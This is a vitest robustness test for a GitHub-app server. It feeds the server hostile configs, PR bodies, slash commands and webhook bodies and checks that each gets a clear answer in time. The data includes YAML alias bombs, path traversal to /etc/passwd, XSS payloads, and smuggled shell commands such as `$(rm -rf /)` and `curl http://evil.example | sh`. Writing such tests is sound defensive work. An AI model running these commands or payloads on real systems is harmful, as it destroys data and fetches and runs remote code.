import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DECLARED } from "../helpers/gate-harness.js";
import { loopbackFetch } from "../helpers/loopback-fetch.js";
import { issueCommentEvent } from "../helpers/webhooks.js";
import { Stage, inBatches, report, type Delivery, type Repo } from "./stage.js";

/**
 * Hostile configs, bodies, commands and webhook bodies sent to the real server: each gets a clear
 * answer (an error that says what is wrong, or the ordinary verdict) within a time bound, and the
 * server keeps serving.
 */
let stage: Stage;
beforeAll(async () => {
  stage = await Stage.start();
});
afterAll(async () => {
  await stage?.stop();
});

/** Generous: includes Probot's 1 s spacing of one installation's writes and a busy 2-core box. */
const BOUND_MS = 20_000;

interface Outcome {
  delivery: Delivery;
  repo: Repo;
  /** The PR's `delivery/declared` check, or the command's reply, as a user would read it. */
  seen: string;
}

interface Hostile {
  kind: "config" | "body" | "command" | "webhook";
  what: string;
  run(): Promise<Outcome>;
  /** What a user must see. */
  expect(outcome: Outcome): void;
}

const CONFIG_PATH = ".github/delivery.yml";

/** A PR opened in a repository whose default branch has `config`: what does its check say? */
function withConfig(config: string, body = DECLARED) {
  return async (): Promise<Outcome> => {
    const repo = stage.repo("bad-config", { [CONFIG_PATH]: config });
    return openPr(repo, body);
  };
}

async function openPr(repo: Repo, body: string): Promise<Outcome> {
  const pr = stage.pr(repo, { body, author: "erin" });
  const delivery = await stage.deliver("pull_request", stage.prEvent(repo, pr, "opened"));
  const [run] = stage.gh.state.checkRunsFor(repo.fake, pr.pull!.headSha, "delivery/declared");
  return {
    delivery,
    repo,
    seen: run ? `${run.conclusion}: ${run.output.title}\n${run.output.summary}` : "(no check)",
  };
}

function invalidConfig(fragment: string | RegExp) {
  return (o: Outcome) => {
    expect(o.seen).toMatch(/^failure: Invalid \.github\/delivery\.yml/);
    if (typeof fragment === "string") expect(o.seen).toContain(fragment);
    else expect(o.seen).toMatch(fragment);
  };
}

function withBody(body: string) {
  return async (): Promise<Outcome> => openPr(stage.repo("bad-body"), body);
}

const checkSays = (conclusion: "success" | "failure", title?: string) => (o: Outcome) => {
  expect(o.seen.split("\n")[0]).toMatch(new RegExp(`^${conclusion}: `));
  if (title) expect(o.seen.split("\n")[0]).toBe(`${conclusion}: ${title}`);
};

/** A command from a maintainer on a pending issue: what does the gate answer or record? */
function command(text: string, config = "production:\n  evidence: [deployments, manual]\n") {
  return async (): Promise<Outcome> => {
    const repo = stage.repo("bad-command", { [CONFIG_PATH]: config });
    stage.gh.state.setRole(repo.fake, "maya", "maintain");
    const issue = stage.issue(repo, { body: DECLARED, author: "carol" });
    const comment = stage.gh.state.addComment(repo.fake, issue.number, {
      body: text,
      author: "maya",
    });
    const delivery = await stage.deliver(
      "issue_comment",
      issueCommentEvent({
        repo: repo.scenario,
        number: issue.number,
        commentBody: text,
        commenter: "maya",
        commentId: comment.id,
      }),
    );
    const others = stage.gh.state
      .commentsOf(repo.fake, issue.number)
      .filter((c) => c.id !== comment.id)
      .map((c) => c.body);
    return { delivery, repo, seen: others.join("\n---\n") };
  };
}

const replies = (fragment: string) => (o: Outcome) => expect(o.seen).toContain(fragment);

/** A raw webhook POST (no handler may run for what fails to verify or parse). */
function rawWebhook(body: Buffer, options: { sign?: boolean } = {}) {
  return async (): Promise<Outcome> => {
    const repo = stage.repo("bad-webhook");
    const delivery = await stage.deliver("pull_request", "", {
      raw: body,
      ...(options.sign === false ? { secret: null } : {}),
    });
    return { delivery, repo, seen: `HTTP ${delivery.status}: ${delivery.body.slice(0, 200)}` };
  };
}

/** Rejected with `status`, or before the body was even read (connection closed: status 0). */
const rejected = (status: number) => (o: Outcome) => {
  expect([status, 0]).toContain(o.delivery.status);
  expect(o.delivery.outcome).toBeNull();
};

const deep = (n: number, open: string, close: string) => `${open.repeat(n)}${close.repeat(n)}`;

const HOSTILE: Hostile[] = [
  // ---------------------------------------------------------------- configs
  {
    kind: "config",
    what: "billion laughs (aliases of aliases, 3.5 billion strings)",
    run: withConfig(
      readFileSync(new URL("../fixtures/config/billion-laughs.yml", import.meta.url), "utf8"),
    ),
    expect: invalidConfig("YAML aliases expand to too much data"),
  },
  {
    kind: "config",
    what: "merge-key bomb (`<<: [*a, *a, …]` 1,000 times)",
    run: withConfig(
      `base: &a {mode: enforce}\nmode:\n  <<: [${Array.from({ length: 1000 }, () => "*a").join(", ")}]\n`,
    ),
    expect: invalidConfig(/aliases expand to too much data|mode/),
  },
  {
    kind: "config",
    what: "10,000 nested flow sequences `[[[…]]]`",
    run: withConfig(`issues:\n  labels: ${deep(10_000, "[", "]")}\n`),
    expect: invalidConfig("values are nested too deeply"),
  },
  {
    kind: "config",
    what: "5,000 nested block mappings",
    run: withConfig(
      Array.from({ length: 5000 }, (_, i) => `${" ".repeat(i)}k${i}:`).join("\n") + " 1\n",
    ),
    expect: invalidConfig(/bytes; the limit is|k0|unknown|nested/i),
  },
  {
    kind: "config",
    what: "a 5 MB config file",
    run: withConfig(`# ${"x".repeat(5 * 1024 * 1024)}\nmode: enforce\n`),
    expect: invalidConfig("bytes; the limit is 65,536"),
  },
  {
    kind: "config",
    what: "U+FFFD and lone surrogates where a mode belongs (invalid UTF-8 decoded)",
    run: withConfig("mode: enf\uFFFDorce\uD800\n"),
    expect: invalidConfig("mode"),
  },
  {
    kind: "config",
    what: "NUL and control characters in a label name",
    run: withConfig('labels:\n  pending: "delivery\\0pending\\u001b[31m"\n'),
    expect: (o) => expect(o.seen).toMatch(/^(failure: Invalid|success|failure)/),
  },
  {
    kind: "config",
    what: "a JavaScript function tag (`!!js/function`)",
    run: withConfig('mode: !!js/function "function () { process.exit(1) }"\n'),
    expect: invalidConfig("unsupported YAML tag"),
  },
  {
    kind: "config",
    what: "an undefined alias `*nope`",
    run: withConfig("mode: *nope\n"),
    expect: invalidConfig("YAML alias *nope has no anchor"),
  },
  {
    kind: "config",
    what: "duplicate keys",
    run: withConfig("mode: enforce\nmode: report-only\n"),
    expect: invalidConfig(/duplicate|unique|mode/i),
  },
  {
    kind: "config",
    what: "a YAML document that is a list, then a scalar",
    run: withConfig("- mode: enforce\n- 42\n"),
    expect: invalidConfig(/mapping|object|expected/i),
  },
  {
    kind: "config",
    what: "a catastrophic-backtracking pattern as an environment glob `(a+)+$`",
    run: withConfig(`production:\n  environments: ["(a+)+$", "${"a".repeat(5000)}!"]\n`),
    expect: checkSays("success"),
  },
  {
    kind: "config",
    what: "a 20-digit duration `99999999999999999999d`",
    run: withConfig("report:\n  window: 99999999999999999999d\n"),
    expect: invalidConfig("report.window"),
  },
  {
    kind: "config",
    what: "`_extends` pointing at itself",
    run: async () => {
      const repo = stage.repo("bad-extends");
      stage.gh.state.setFile(repo.fake, CONFIG_PATH, `_extends: ${repo.scenario.name}\n`);
      return openPr(repo, DECLARED);
    },
    expect: invalidConfig("_extends loops back"),
  },
  {
    kind: "config",
    what: "`_extends: ../../../etc/passwd`",
    run: withConfig("_extends: ../../../etc/passwd\n"),
    expect: invalidConfig("_extends"),
  },
  // ---------------------------------------------------------------- bodies
  {
    kind: "body",
    what: "a 5 MB PR body (declarations at the end)",
    run: withBody(`${"Lorem ipsum dolor sit amet. ".repeat(190_000)}\n\n${DECLARED}`),
    expect: checkSays("failure"),
  },
  {
    kind: "body",
    what: "10,000 nested block quotes `> > > …`",
    run: withBody(`${"> ".repeat(10_000)}x\n\n${DECLARED}`),
    expect: checkSays("success", "KPIs and affected customers declared"),
  },
  {
    kind: "body",
    what: "5,000 list markers on one line `- - - …`",
    run: withBody(`${"- ".repeat(5000)}x\n\n${DECLARED}`),
    expect: checkSays("success", "KPIs and affected customers declared"),
  },
  {
    kind: "body",
    what: "4,000 `a\\n=` setext underlines (quadratic for the parser)",
    run: withBody(`${"a\n=\n".repeat(4000)}\n${DECLARED}`),
    expect: checkSays("failure"),
  },
  {
    kind: "body",
    what: "a 3,000-column table row",
    run: withBody(`${DECLARED}\n| ${"x | ".repeat(3000)}\n`),
    expect: checkSays("success", "KPIs and affected customers declared"),
  },
  {
    kind: "body",
    what: "an unterminated HTML comment over 1 MB",
    run: withBody(`${DECLARED}\n<!-- ${"never closed ".repeat(90_000)}`),
    expect: checkSays("success", "KPIs and affected customers declared"),
  },
  {
    kind: "body",
    what: "regex-like text in KPI lines `(a+)+$` and a 100,000-digit target",
    run: withBody(
      `### Outcome KPIs\n- (a+)+$ ${"a".repeat(5000)}! — target: ${"9".repeat(100_000)}; window: 30d\n\n### Affected customers\n- Acme Corp\n`,
    ),
    expect: (o) => expect(o.seen).toMatch(/^(success|failure): /),
  },
  {
    kind: "body",
    what: "NUL, bidi overrides and zero-width characters in customer names",
    run: withBody(
      `### Outcome KPIs\n- Errors — target: 1%; window: 30d\n\n### Affected customers\n- Ac\u0000me \u202Eproc emca\u202C — @alice\n- \u200B\u200B\n`,
    ),
    expect: checkSays("success"),
  },
  {
    kind: "body",
    what: "10,000 KPI items (the parser's work budget cuts the body: what follows is not read)",
    run: withBody(
      `### Outcome KPIs\n${Array.from({ length: 10_000 }, (_, i) => `- KPI ${i} — target: ${i}%; window: 30d`).join("\n")}\n\n### Affected customers\n- None — internal\n`,
    ),
    expect: checkSays("failure", "Missing: Affected customers"),
  },
  // ---------------------------------------------------------------- commands
  {
    kind: "command",
    what: "`/delivery waive $(rm -rf /)` (shell substitution)",
    run: command("/delivery waive $(rm -rf /) `id` ; curl http://evil.example | sh"),
    expect: replies("🟡 **Waived** by @maya"),
  },
  {
    kind: "command",
    what: "`/delivery deployed` with pipes, redirects and backticks as evidence",
    run: command(
      "/delivery deployed https://ok.example/$(whoami) > /etc/passwd | `reboot` && echo",
    ),
    expect: replies("🚀 **Confirmed in production** by @maya"),
  },
  {
    kind: "command",
    what: "a 1 MB waiver reason",
    run: command(`/delivery waive ${"because ".repeat(130_000)}`),
    expect: replies("keep it under 500"),
  },
  {
    kind: "command",
    what: "`--until 9999-99-99`",
    run: command("/delivery waive migration --until 9999-99-99"),
    expect: replies("`--until` needs a date as YYYY-MM-DD"),
  },
  {
    kind: "command",
    what: "an unknown 100,000-character verb",
    run: command(`/delivery ${"x".repeat(100_000)}`),
    expect: replies("Unknown command"),
  },
  {
    kind: "command",
    what: "`@everyone` and HTML in a waiver reason",
    run: command(
      '/delivery waive <img src=x onerror=alert(1)> @everyone <script>alert("x")</script>',
    ),
    expect: replies("🟡 **Waived** by @maya"),
  },
  {
    kind: "command",
    what: "a 5 MB comment that starts with `/delivery recheck`",
    run: command(`/delivery recheck\n${"filler ".repeat(750_000)}`),
    expect: (o) => expect(o.delivery.outcome).toBe("handled"),
  },
  // ---------------------------------------------------------------- webhook bodies
  {
    kind: "webhook",
    what: "a signed webhook body that is not JSON",
    run: rawWebhook(Buffer.from("{ this is: not json", "utf8")),
    expect: (o) => {
      expect(o.delivery.status).toBeGreaterThanOrEqual(400);
      expect(o.delivery.outcome).toBeNull();
    },
  },
  {
    kind: "webhook",
    what: "a signed webhook body with invalid UTF-8 bytes",
    run: rawWebhook(
      Buffer.concat([
        Buffer.from('{"action":"opened","x":"'),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
        Buffer.from('"}'),
      ]),
    ),
    expect: (o) => {
      expect(o.delivery.status).toBeGreaterThanOrEqual(400);
      expect(o.delivery.outcome).toBeNull();
    },
  },
  {
    kind: "webhook",
    what: "an unsigned 5 MB webhook body",
    run: rawWebhook(
      Buffer.from(JSON.stringify({ action: "opened", pad: "x".repeat(5 * 1024 * 1024) })),
      {
        sign: false,
      },
    ),
    expect: rejected(400),
  },
];

describe("Bad input", () => {
  it(`${HOSTILE.length} hostile configs, bodies, commands and webhook bodies`, async (context) => {
    const results = await inBatches(HOSTILE, 6, async (h) => {
      const outcome = await h.run();
      return { h, outcome };
    });
    const problems: string[] = [];
    let slowest = 0;
    for (const { h, outcome } of results) {
      try {
        h.expect(outcome);
        if (outcome.delivery.outcome === "failed") throw new Error("the handler failed");
        const ms = outcome.delivery.handledMs ?? outcome.delivery.ms;
        slowest = Math.max(slowest, ms);
        if (ms > BOUND_MS) throw new Error(`took ${Math.round(ms)} ms (bound ${BOUND_MS} ms)`);
      } catch (error) {
        problems.push(
          `${h.kind}: ${h.what}: ${(error as Error).message}\n  saw: ${outcome.seen.slice(0, 300)}`,
        );
      }
    }
    expect(problems).toEqual([]);
    // Still serving.
    expect((await loopbackFetch(`${stage.server.url}/ping`)).status).toBe(200);
    expect(stage.server.child.exitCode).toBeNull();
    expect(stage.gh.violations.filter((v) => v.kind !== "response")).toEqual([]);
    const count = (kind: Hostile["kind"]) => HOSTILE.filter((h) => h.kind === kind).length;
    report(context, {
      area: "Bad input",
      tried: `${HOSTILE.length} hostile inputs: ${count("config")} configs (alias and merge-key bombs, 10k-deep nesting, 5 MB, invalid UTF-8, JS tags, _extends loops…), ${count("body")} bodies (5 MB, 10k-deep quotes, quadratic setext, 1 MB open comment, regex-like text…), ${count("command")} commands (shell metacharacters, 1 MB reasons, bad dates…), ${count("webhook")} raw webhook bodies`,
      held: `every one answered clearly (config errors with line and column, ordinary verdicts, polite refusals, 4xx) — slowest ${(slowest / 1000).toFixed(1)} s, bound ${BOUND_MS / 1000} s; the server kept serving`,
    });
  }, 300_000);
});
